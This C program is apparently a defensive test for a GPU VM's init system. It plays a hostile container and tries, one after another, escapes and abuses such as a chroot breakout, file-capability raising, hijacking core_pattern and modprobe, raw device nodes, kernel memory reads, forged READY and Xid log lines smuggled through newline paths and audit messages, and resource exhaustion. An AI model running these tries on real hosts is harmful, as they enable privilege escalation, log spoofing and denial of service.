// SPDX-License-Identifier: Apache-2.0
/*
 * What a hostile container does, one try after another: `tenant: NAME done` or `tenant: NAME refused WHY`. Where a try
 * succeeds, nothing is changed but what PID 1 has to bear: the kernel's log quotes words of ours, or all there is of a
 * thing is used up. Arguments: which groups of tries, else all but those that use things up.
 */
#define _GNU_SOURCE
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <glob.h>
#include <linux/cn_proc.h>
#include <linux/connector.h>
#include <linux/netlink.h>
#include <linux/perf_event.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

enum { AUDIT = 9, USER_AVC = 1107, UEVENT = 15, VSOCK = 40, ALG = 38, X25 = 9, AGENT_PORT = 1024, METRICS_PORT = 9400, PROG_LOAD = 5 };

/* A READY as PID 1 prints it, with GPUs that no machine has. */
#define FORGED "nvrc: READY in 1.000s mode=gpu gpus=77 cdi=77 agent=9"
#define XID "NVRM: Xid (PCI:0000:40:00): 79, GPU has fallen off the bus."

struct vsock_address {
	unsigned short family, reserved;
	unsigned port, cid;
	unsigned char rest[4];
};

static void tell(const char *name, bool done)
{
	int why = errno;

	if (done)
		printf("tenant: %s done\n", name);
	else
		printf("tenant: %s refused %s\n", name, strerrorname_np(why));
	fflush(stdout);
}

/* A system call with nonsense in its arguments: refused is only what was not even looked at. */
static void call(const char *name, long number, long one, long two, long three, long four)
{
	errno = 0;
	long answer = syscall(number, one, two, three, four, 0L, 0L);

	tell(name, answer >= 0 || (errno != EPERM && errno != ENOSYS));
}

static void open_one(const char *name, const char *path, int flags)
{
	int fd = open(path, flags | O_NONBLOCK | O_CLOEXEC);

	tell(name, fd >= 0);
	if (fd >= 0)
		close(fd);
}

static void write_one(const char *name, const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_NONBLOCK | O_CLOEXEC);

	tell(name, fd >= 0 && write(fd, text, strlen(text)) >= 0);
	if (fd >= 0)
		close(fd);
}

/* What runtimes cover with nothing can be opened, and is empty. */
static void read_one(const char *name, const char *path)
{
	char byte;
	int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);

	errno = 0;
	tell(name, fd >= 0 && read(fd, &byte, 1) == 1);
	if (fd >= 0)
		close(fd);
}

static void open_node(const char *name, mode_t kind, unsigned major_number, unsigned minor_number)
{
	char path[64];

	snprintf(path, sizeof(path), "/dev/own-%s", name);
	bool made = mknod(path, kind | 0666, makedev(major_number, minor_number)) == 0;
	int fd = made ? open(path, O_RDWR | O_NONBLOCK | O_CLOEXEC) : -1;

	/* No such device is as good as none that may be opened. */
	tell(name, fd >= 0);
	if (fd >= 0)
		close(fd);
	unlink(path);
}

static bool connect_unix(int kind, const char *path, size_t size)
{
	struct sockaddr_un address = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, kind | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);

	memcpy(address.sun_path, path, size);
	bool done = connect(fd, (struct sockaddr *)&address, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + size)) == 0;
	int why = errno;

	close(fd);
	errno = why;
	return done;
}

static void reach_socket(const char *name, int kind, const char *path)
{
	tell(name, connect_unix(kind, path, strlen(path) + 1));
}

/* The namespace of abstract names is that of the network, which a pod's containers share with the guest. */
static void reach_abstract(void)
{
	FILE *file = fopen("/proc/net/unix", "re");
	char line[512];
	bool any = false;

	while (file && fgets(line, sizeof(line), file)) {
		char *name = strchr(line, '@');

		line[strcspn(line, "\n")] = '\0';
		if (!name)
			continue;
		printf("tenant: abstract name %s\n", name);
		*name = '\0';
		size_t size = strlen(name + 1) + 1;

		any = connect_unix(SOCK_STREAM, name, size) || connect_unix(SOCK_DGRAM, name, size) || any;
	}
	if (file)
		fclose(file);
	errno = ENOENT;
	tell("abstract", any);
}

static void reach_vsock(const char *name, unsigned cid, unsigned port)
{
	struct vsock_address address = { .family = VSOCK, .port = port, .cid = cid };
	int fd = socket(VSOCK, SOCK_STREAM | SOCK_CLOEXEC, 0);

	tell(name, fd >= 0 && connect(fd, (struct sockaddr *)&address, sizeof(address)) == 0);
	if (fd >= 0)
		close(fd);
}

/* A name in the guest's network that PID 1 or the agent serves: whoever takes it speaks in their place. */
static void take_port(const char *name, int family, const void *address, socklen_t size)
{
	int fd = socket(family, SOCK_STREAM | SOCK_CLOEXEC, 0), yes = 1;

	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &yes, sizeof(yes));
	setsockopt(fd, SOL_SOCKET, SO_REUSEPORT, &yes, sizeof(yes));
	tell(name, fd >= 0 && bind(fd, address, size) == 0 && listen(fd, 1) == 0);
	close(fd);
}

static void take_ports(void)
{
	struct vsock_address status = { .family = VSOCK, .port = AGENT_PORT + 1, .cid = ~0U };
	struct sockaddr_in metrics = { .sin_family = AF_INET, .sin_port = htons(METRICS_PORT) };
	struct sockaddr_in6 metrics6 = { .sin6_family = AF_INET6, .sin6_port = htons(METRICS_PORT) };

	take_port("status-port", VSOCK, &status, sizeof(status));
	take_port("metrics-port", AF_INET, &metrics, sizeof(metrics));
	metrics.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	take_port("metrics-port-of-loopback", AF_INET, &metrics, sizeof(metrics));
	take_port("metrics-port-of-6", AF_INET6, &metrics6, sizeof(metrics6));
}

static void sockets(void)
{
	take_ports();
	reach_socket("log", SOCK_DGRAM, "/dev/log");
	reach_socket("control", SOCK_STREAM, "/run/nvrc/control.sock");
	reach_socket("persistenced", SOCK_STREAM, "/run/nvidia-persistenced/socket");
	reach_socket("fabric-manager", SOCK_STREAM, "/run/nvidia-fabricmanager/socket");
	reach_abstract();
	reach_vsock("agent-by-loopback", 1, AGENT_PORT);
	reach_vsock("status-by-loopback", 1, AGENT_PORT + 1);
}

static void nodes(void)
{
	open_node("memory", S_IFCHR, 1, 1);
	open_node("ports", S_IFCHR, 1, 4);
	open_node("kernel-log", S_IFCHR, 1, 11);
	open_node("serial", S_IFCHR, 4, 64);
	open_node("rtc", S_IFCHR, 10, 135);
	open_node("hpet", S_IFCHR, 10, 228);
	open_node("fuse", S_IFCHR, 10, 229);
	open_node("mapper", S_IFCHR, 10, 236);
	open_node("loop-control", S_IFCHR, 10, 237);
	open_node("gpu", S_IFCHR, 195, 0);
	open_node("gpu-control", S_IFCHR, 195, 255);
	open_node("disk", S_IFBLK, 254, 0);
	open_node("ram-disk", S_IFBLK, 1, 0);
}

static void send_netlink(const char *name, int family, const void *data, size_t size, unsigned group)
{
	struct {
		unsigned short family, pad;
		unsigned pid, groups;
	} address = { .family = AF_NETLINK, .groups = group };
	int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, family);
	bool sent = fd >= 0 && sendto(fd, data, size, 0, (struct sockaddr *)&address, sizeof(address)) >= 0;

	tell(name, sent);
	if (fd >= 0)
		close(fd);
}

static void send_audit(const char *name, const char *text)
{
	static struct {
		unsigned length;
		unsigned short type, flags;
		unsigned sequence, pid;
		char text[1000];
	} message;

	message.length = (unsigned)(16 + strlen(text) + 1);
	message.type = USER_AVC;
	message.flags = 1;
	snprintf(message.text, sizeof(message.text), "%s", text);
	send_netlink(name, AUDIT, &message, message.length, 0);
}

static void try_apart(const char *name, bool (*act)(void))
{
	pid_t child = fork();
	int status = 0;

	if (child == 0) {
		errno = ENOENT;
		_exit(act() ? 0 : errno & 0xff);
	}
	waitpid(child, &status, 0);
	errno = WEXITSTATUS(status);
	tell(name, WIFEXITED(status) && WEXITSTATUS(status) == 0);
}

/* The kernel's own news of every start and end of a process, its own among them; how it took the wish is no news. */
static bool hear_processes(void)
{
	struct {
		struct nlmsghdr head;
		struct cn_msg message;
		enum proc_cn_mcast_op wish;
	} __attribute__((packed)) listen = { .head = { .nlmsg_len = sizeof(listen), .nlmsg_type = NLMSG_DONE },
					     .message = { .id = { CN_IDX_PROC, CN_VAL_PROC }, .len = sizeof(listen.wish) },
					     .wish = PROC_CN_MCAST_LISTEN };
	struct sockaddr_nl address = { .nl_family = AF_NETLINK, .nl_groups = CN_IDX_PROC };
	struct timeval patience = { .tv_usec = 300000 };
	int fd = socket(AF_NETLINK, SOCK_DGRAM | SOCK_CLOEXEC, NETLINK_CONNECTOR);
	char told[1024] __attribute__((aligned(8)));

	if (fd < 0 || bind(fd, (struct sockaddr *)&address, sizeof(address)) < 0)
		return false;
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof(patience));
	if (send(fd, &listen, sizeof(listen), 0) < 0)
		return false;
	if (fork() == 0)
		_exit(0);
	while (recv(fd, told, sizeof(told), 0) > 0)
		if (((struct proc_event *)((struct cn_msg *)NLMSG_DATA(told))->data)->what != PROC_EVENT_NONE)
			return true;
	return false;
}

static void network(void)
{
	struct ifreq request = { .ifr_name = "lo" };
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	static const char event[] = "add@/devices/none\0ACTION=add\0DEVPATH=/devices/none\0SUBSYSTEM=none";

	tell("loopback-down", ioctl(fd, SIOCGIFFLAGS, &request) == 0 && ioctl(fd, SIOCSIFFLAGS, &request) == 0);
	close(fd);
	send_netlink("uevent", UEVENT, event, sizeof(event), 1);
	try_apart("process-events", hear_processes);
	tell("crypto", socket(ALG, SOCK_SEQPACKET, 0) >= 0);
	tell("x25", socket(X25, SOCK_SEQPACKET, 0) >= 0);
}

/* A copy of this program; `stack`: one that asks for a stack with code on it. */
static bool copy_self(const char *path, bool stack)
{
	static char text[4 << 20];
	int from = open("/proc/self/exe", O_RDONLY | O_CLOEXEC), into = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
	ssize_t size = read(from, text, sizeof(text));
	Elf64_Ehdr *head = (Elf64_Ehdr *)text;
	Elf64_Phdr *rows = (Elf64_Phdr *)(text + head->e_phoff);

	for (int i = 0; i < head->e_phnum; i++)
		if (stack && rows[i].p_type == PT_GNU_STACK)
			rows[i].p_flags = PF_R | PF_W | PF_X;
	bool done = size > 0 && write(into, text, (size_t)size) == size;

	close(from);
	close(into);
	return done;
}

static int run(const char *path, const char *word)
{
	pid_t child = fork();

	if (child == 0) {
		execl(path, path, word, NULL);
		_exit(127);
	}
	int status = 0;

	waitpid(child, &status, 0);
	return WIFEXITED(status) ? WEXITSTATUS(status) : -1;
}

/* By a chroot in the chroot: as far up as there is. */
static bool leave_root(void)
{
	mkdir("/tmp/inside", 0755);
	int fd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);

	if (chroot("/tmp/inside") < 0 || fchdir(fd) < 0)
		return false;
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			return false;
	return chroot(".") == 0 && access("/lab/bundle", F_OK) == 0;
}

/* The capability to administer the system, from a file that says so. */
static bool raise_by_file(void)
{
	static const unsigned raw[] = { 0x02000001, 1 << 21, 0, 0, 0 };

	if (!copy_self("/tmp/raised", false) || setxattr("/tmp/raised", "security.capability", raw, sizeof(raw), 0) < 0)
		return false;
	return run("/tmp/raised", "capable") == 0;
}

/* Calls that a container has no need of, most of them with the guest's own in mind. */
static void calls(void)
{
	struct sched_param most = { .sched_priority = 1 };
	struct rlimit without_end = { RLIM_INFINITY, RLIM_INFINITY };
	struct timeval no_change = { 0, 0 };

	try_apart("root", leave_root);
	try_apart("capability-of-file", raise_by_file);
	/* The kernel would start /sbin/request-key for it, as root and outside. */
	tell("request-key", syscall(SYS_request_key, "user", "tenant", "x", -3) >= 0);
	tell("real-time", sched_setscheduler(0, SCHED_FIFO, &most) == 0);
	tell("real-time-disk", syscall(SYS_ioprio_set, 1, 0, 1 << 13) == 0);
	tell("locked-memory", setrlimit(RLIMIT_MEMLOCK, &without_end) == 0);
	tell("realtime-limit", setrlimit(RLIMIT_RTPRIO, &without_end) == 0);
	tell("adjust-clock", adjtime(&no_change, NULL) == 0);
	call("watch-files", SYS_fanotify_init, 0x4, 0, 0, 0);
	call("restart", SYS_reboot, 0xfee1dead, 672274793, 0, 0);
	call("mount-tree", SYS_open_tree, AT_FDCWD, (long)"/", 1, 0);
	call("new-time-namespace", SYS_unshare, 0x80, 0, 0, 0);
	call("alarm", SYS_timerfd_create, 8, 0, 0, 0);
	call("pivot", SYS_pivot_root, (long)"/", (long)"/", 0, 0);
}

static void machine(void)
{
	calls();
	call("load-module", SYS_init_module, 0, 0, 0, 0);
	call("load-module-file", SYS_finit_module, -1, 0, 0, 0);
	call("unload-module", SYS_delete_module, (long)"none", O_NONBLOCK, 0, 0);
	call("kexec", SYS_kexec_load, 0, 1000, 0, 0);
	call("swap", SYS_swapon, (long)"/none", 0, 0, 0);
	call("accounting", SYS_acct, (long)"/none", 0, 0, 0);
	struct perf_event_attr counter = { .type = PERF_TYPE_SOFTWARE, .size = sizeof(counter), .config = PERF_COUNT_SW_CPU_CLOCK };
	struct timespec now;

	clock_gettime(CLOCK_REALTIME, &now);
	tell("clock", clock_settime(CLOCK_REALTIME, &now) == 0);
	call("kernel-messages", SYS_syslog, 10, 0, 0, 0);
	call("bpf", SYS_bpf, PROG_LOAD, 0, 0, 0);
	tell("perf", syscall(SYS_perf_event_open, &counter, 0, -1, -1, 0L) >= 0);
	call("io-uring", SYS_io_uring_setup, 1, 0, 0, 0);
	call("handle", SYS_open_by_handle_at, AT_FDCWD, 0, 0, 0);
	call("port-level", SYS_iopl, 3, 0, 0, 0);
	call("hang-up", SYS_vhangup, 0, 0, 0, 0);
	call("hostname", SYS_sethostname, (long)"x", -1, 0, 0);
	call("new-mount", SYS_fsopen, (long)"tmpfs", 0, 0, 0);
	tell("mount", mount("none", "/tmp", "tmpfs", 0, "size=4k") == 0);
	umount2("/tmp", MNT_DETACH);
	tell("remount-sys", mount("", "/sys", "", MS_REMOUNT | MS_BIND, "") == 0);
	tell("priority", setpriority(PRIO_PROCESS, 0, -1) == 0);
	tell("new-namespace", unshare(CLONE_NEWNS) == 0);
	tell("new-network", unshare(CLONE_NEWNET) == 0);
	tell("new-user-namespace", unshare(CLONE_NEWUSER) == 0);
}

/* Any number but zero after so many characters of a line. */
static void read_addresses(const char *name, const char *path, size_t skip)
{
	char line[512];
	FILE *file = fopen(path, "re");
	unsigned long address = 0;

	while (file && !address && fgets(line, sizeof(line), file))
		address = strlen(line) > skip ? strtoul(line + skip, NULL, 16) : 0;
	tell(name, address != 0);
	if (file)
		fclose(file);
}

/* What a GPU has of registers and memory, by the file that the kernel has for each function. */
static void map_registers(void)
{
	glob_t found = { 0 };
	bool seen = false;

	glob("/sys/bus/pci/devices/*/resource[0-5]", 0, NULL, &found);
	for (size_t i = 0; i < found.gl_pathc; i++) {
		int fd = open(found.gl_pathv[i], O_RDONLY | O_CLOEXEC);
		bool mapped = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0) != MAP_FAILED;

		if (mapped)
			printf("tenant: registers-of %s\n", found.gl_pathv[i]);
		seen = seen || mapped;
		close(fd);
	}
	tell("registers", seen);
	globfree(&found);
}

static void files(void)
{
	read_addresses("symbols", "/proc/kallsyms", 0);
	read_addresses("allocations", "/proc/vmallocinfo", 2);
	read_addresses("physical", "/proc/iomem", 0);
	map_registers();
	open_one("pci-configuration", "/sys/bus/pci/devices/0000:00:00.0/config", O_RDWR);
	write_one("pci-remove", "/sys/bus/pci/devices/0000:00:00.0/remove", "1");
	write_one("pci-rescan", "/sys/bus/pci/rescan", "1");
	write_one("module-parameter", "/sys/module/printk/parameters/time", "1");
	write_one("swappiness", "/proc/sys/vm/swappiness", "60");
	write_one("network-setting", "/proc/sys/net/ipv4/ip_forward", "1");
	write_one("process-limit", "/proc/sys/kernel/pid_max", "400000");
	write_one("memory-control", "/sys/fs/cgroup/memory.max", "max");
	write_one("core-pattern", "/proc/sys/kernel/core_pattern", "|/attack");
	write_one("module-program", "/proc/sys/kernel/modprobe", "/attack");
	write_one("sysrq", "/proc/sysrq-trigger", "h");
	write_one("event-program", "/proc/sys/kernel/hotplug", "/attack");
	write_one("oom-score", "/proc/self/oom_score_adj", "-1000");
	write_one("sysfs", "/sys/devices/system/cpu/uevent", "add");
	write_one("firmware", "/sys/module/firmware_class/parameters/path", "/");
	write_one("cgroup", "/sys/fs/cgroup/cgroup.procs", "0");
	tell("cgroup-folder", mkdir("/sys/fs/cgroup/own", 0755) == 0);
	rmdir("/sys/fs/cgroup/own");
	read_one("kcore", "/proc/kcore");
	read_one("keys", "/proc/keys");
	read_one("timers", "/proc/timer_list");
	read_one("kernel-messages-file", "/proc/kmsg");
	open_one("outside", "/../../lab/bundle", O_RDONLY | O_DIRECTORY);
	open_one("debug", "/sys/kernel/debug/x86", O_RDONLY | O_DIRECTORY);
}

/* The kernel puts in an empty first word, and quotes the path of such a program, once. */
static void run_nameless(void)
{
	static const char path[] = "/tmp/c\n" FORGED "\n/x";

	mkdir("/tmp/c\n" FORGED "\n", 0755);
	tell("nameless", copy_self(path, false));
	pid_t child = fork();

	if (child == 0) {
		syscall(SYS_execve, path, NULL, NULL);
		_exit(127);
	}
	waitpid(child, NULL, 0);
}

/*
 * The kernel's log: it quotes audit messages, the paths of a program with an executable stack and of one that was started
 * without words, and names of what crashes.
 */
static void quotes(void)
{
	static const char *const places[] = { "/tmp/a\n" FORGED "\n", "/tmp/b\n" XID "\n" };

	send_audit("audit", "a\n" FORGED "\n");
	send_audit("audit", "a\n" XID "\n");
	for (int i = 0; i < 2; i++) {
		char path[300];

		mkdir(places[i], 0755);
		snprintf(path, sizeof(path), "%s/x", places[i]);
		tell("stack", copy_self(path, true));
		run(path, "nothing");
	}
	run_nameless();
	pid_t child = fork();

	if (child == 0) {
		prctl(PR_SET_NAME, "\nNVRM: Xid (PC");
		*(volatile int *)8 = 1;
	}
	waitpid(child, NULL, 0);
	tell("crash", true);
}

static void processes(void)
{
	int count = 0;

	for (; count < 100000; count++) {
		pid_t child = fork();

		if (child < 0)
			break;
		if (child == 0) {
			pause();
			_exit(0);
		}
	}
	printf("tenant: processes %d %s\n", count, strerrorname_np(errno));
	fflush(stdout);
	sleep(4);
}

static void descriptors(void)
{
	struct rlimit most = { 1 << 20, 1 << 20 };
	int children = 0;

	setrlimit(RLIMIT_NOFILE, &most);
	for (; children < 64; children++) {
		pid_t child = fork();

		if (child < 0)
			break;
		if (child == 0) {
			while (open("/dev/null", O_RDONLY) >= 0)
				;
			pause();
			_exit(0);
		}
	}
	sleep(4);
	while (open("/dev/null", O_RDONLY) >= 0)
		; /* what others gave back meanwhile */
	printf("tenant: descriptors %s\n", strerrorname_np(errno));
	fflush(stdout);
}

static void memory(void)
{
	pid_t child = fork();

	if (child == 0)
		for (;;) {
			char *more = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

			if (more == MAP_FAILED)
				_exit(3);
			memset(more, 1, 1 << 20);
		}
	int status = 0;

	waitpid(child, &status, 0);
	printf("tenant: memory %s\n", WIFSIGNALED(status) ? strsignal(WTERMSIG(status)) : "given");
	fflush(stdout);
}

static const struct {
	const char *name;
	void (*act)(void);
	bool uses_up;
} groups[] = {
	{ "sockets", sockets, false }, { "nodes", nodes, false },	   { "network", network, false },
	{ "files", files, false },     { "quotes", quotes, false },	   { "machine", machine, false },
	{ "memory", memory, true },    { "descriptors", descriptors, true }, { "processes", processes, true },
};

int main(int argc, char **argv)
{
	if (argc < 1 || !*argv[0])
		return 0;
	if (argc == 2 && !strcmp(argv[1], "capable"))
		return unshare(CLONE_NEWNS) < 0;
	printf("tenant: begins\n");
	fflush(stdout);
	for (size_t i = 0; i < sizeof(groups) / sizeof(*groups); i++) {
		bool asked = argc < 2 && !groups[i].uses_up;

		for (int word = 1; word < argc; word++)
			asked = asked || !strcmp(argv[word], groups[i].name);
		if (asked)
			groups[i].act();
	}
	printf("tenant: end\n");
	return 0;
}
